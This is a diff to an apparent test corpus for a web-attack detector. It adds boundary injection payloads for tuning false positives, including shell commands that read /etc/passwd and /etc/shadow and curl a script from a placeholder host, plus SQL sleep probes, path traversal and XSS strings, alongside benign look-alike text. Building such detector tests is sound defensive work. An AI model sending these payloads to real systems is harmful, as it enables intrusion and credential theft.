@@ -563,6 +563,37 @@ def _protocol() -> Iterator[CorpusRequest]:
     )
 
 
+BOUNDARY_ATTACKS: tuple[tuple[str, str], ...] = (
+    # Added on 2026-11-27 with the false-positive tuning: the attack side of each rule that was
+    # narrowed (English-word commands, sleep() in SQL position, one ../ step, catalog names).
+    ("rce", "; more /etc/passwd"),
+    ("rce", "| head -c 100 /etc/shadow"),
+    ("rce", "& find / -perm -4000"),
+    ("rce", "&& curl http://203.0.113.9/x.sh"),
+    ("rce", "; php -r 'system(\"id\");'"),
+    ("rce", "| sh"),
+    ("rce", "; ping -c 3 203.0.113.9"),
+    ("sqli", "sleep(5)"),
+    ("sqli", "1=sleep(5)"),
+    ("sqli", "(select sleep(5))"),
+    ("sqli", "1' and '1'='1' order by 3--"),
+    ("sqli", "1 and 1=(select 1 from information_schema.tables limit 1)"),
+    ("sqli", "1 AND 5646=CAST((CHR(113)||CHR(106)) AS NUMERIC)"),
+    ("lfi", "../config.php"),
+    ("lfi", "..\\web.config"),
+    ("lfi", "..;/admin"),
+    ("xss", "<a href=javascript:alert(1)>x</a>"),
+    ("xss", "<svg><set onbegin=alert(1)>"),
+)
+
+
+def _boundary() -> Iterator[CorpusRequest]:
+    for cat, p in BOUNDARY_ATTACKS:
+        q = f"v={quote(p, safe='')}"
+        yield CorpusRequest(cat, "GET", "/search", q, _headers(), None, f"boundary query: {p}")
+        yield _form(cat, "/submit", {"v": p}, f"boundary form: {p}")
+
+
 def attacks() -> list[CorpusRequest]:
     """Every attack request, in a fixed order."""
     out: list[CorpusRequest] = []
@@ -576,6 +607,7 @@ def attacks() -> list[CorpusRequest]:
     out += _rce_extra()
     out += _scanners()
     out += _protocol()
+    out += _boundary()
     return out
 
 
@@ -744,6 +776,64 @@ COMMENTS = (
     "Replace the filter every 3 months (or sooner with hard water).",
     "Just wanted to say: thank you! <3",
 )
+
+HARD_TEXT = (
+    # Added on 2026-11-27 while tuning false positives (a tuning set, like the rest of this
+    # corpus; the second held-out set below was written earlier and is kept apart from it).
+    "left join vs inner join example",
+    "why is my select * slow on large tables",
+    "sql injection prevention prepared statements",
+    "how to write a having clause after group by",
+    "mysql 'access denied for user' root@localhost",
+    "ORDER BY RAND() alternative",
+    'postgres: column "name" does not exist',
+    'sqlite3.OperationalError: near "from": syntax error',
+    "what is information_schema",
+    "union all with different column counts",
+    "update users set last_login = now() where id = ?",
+    "tar -xzvf file.tar.gz meaning",
+    "find . -name '*.log' -delete",
+    "how to use xargs with find",
+    "cron every 5 minutes */5 * * * *",
+    "docker run -it ubuntu bash",
+    "git log --oneline | head",
+    "kill -9 vs kill -15",
+    "what is /dev/null",
+    "cd .. not working",
+    "./configure && make && make install",
+    "Coffee, tea & more",
+    "search & find my phone",
+    "Tips & tricks | less is more",
+    "solve 2x + 3 = 7",
+    "a < b < c ordering",
+    "1/3 + 1/6 = 1/2",
+    "x = (-b + sqrt(b^2 - 4ac)) / 2a",
+    "<p> tag margin",
+    "how to make <a> open in new tab",
+    "<input type=date> format",
+    "what does <!DOCTYPE html> do",
+    "<!-- comment --> in html",
+    "onload event not firing in safari",
+    "/var/www/html permissions",
+    "C:\\Windows\\Temp cleanup",
+    "Love it!! <3 <3 <3",
+    "Five stars -- no, six!",
+    "The 'premium' version isn't worth it; get the basic.",
+    '"Best purchase ever" - my husband',
+    "Took 3-5 days; arrived @ 9pm (!!)",
+    "I'm 5'4\" and the 32\" inseam fits",
+    "Works great w/ my iPhone & iPad; not w/ my Mac :(",
+    "order #991 -- still waiting; 2nd email",
+    "Can I return it? I've had it < 30 days.",
+    "it's 100% wool, not 'wool-blend' as I thought",
+    "#blessed #coffee #morningvibes",
+    "Sizes: S/M/L/XL -- I'd go one up.",
+    "Meeting @ 3pm; bring the 'Q3' deck & laptop",
+    "what is robots.txt?",
+    "is config.php safe to share?",
+    "sleep mask and ear plugs",
+)
+"""Hard free text (programming, shells, maths, HTML, punctuation-heavy reviews)."""
 
 COOKIES = (
     "_ga=GA1.2.1283749283.1714035000; _gid=GA1.2.998877665.1714035000",
@@ -919,6 +1009,20 @@ def benign() -> list[CorpusRequest]:
                 ua=uas[(i + 4) % len(uas)],
             )
         )
+    for i, t in enumerate(HARD_TEXT):
+        ua = uas[i % len(uas)]
+        if i % 3 == 0:
+            q = urlencode({"q": t})
+            out.append(
+                CorpusRequest(
+                    "benign", "GET", "/search", q, _headers(ua=ua), None, f"hard search: {t}"
+                )
+            )
+        elif i % 3 == 1:
+            fields = {"subject": "Re: question", "message": t}
+            out.append(_form("benign", "/community/reply", fields, f"hard form: {t}", ua=ua))
+        else:
+            out.append(_json("benign", "/api/notes", {"text": t}, f"hard json: {t}", ua=ua))
     for i, d in enumerate(API_DOCS):
         out.append(
             _json(
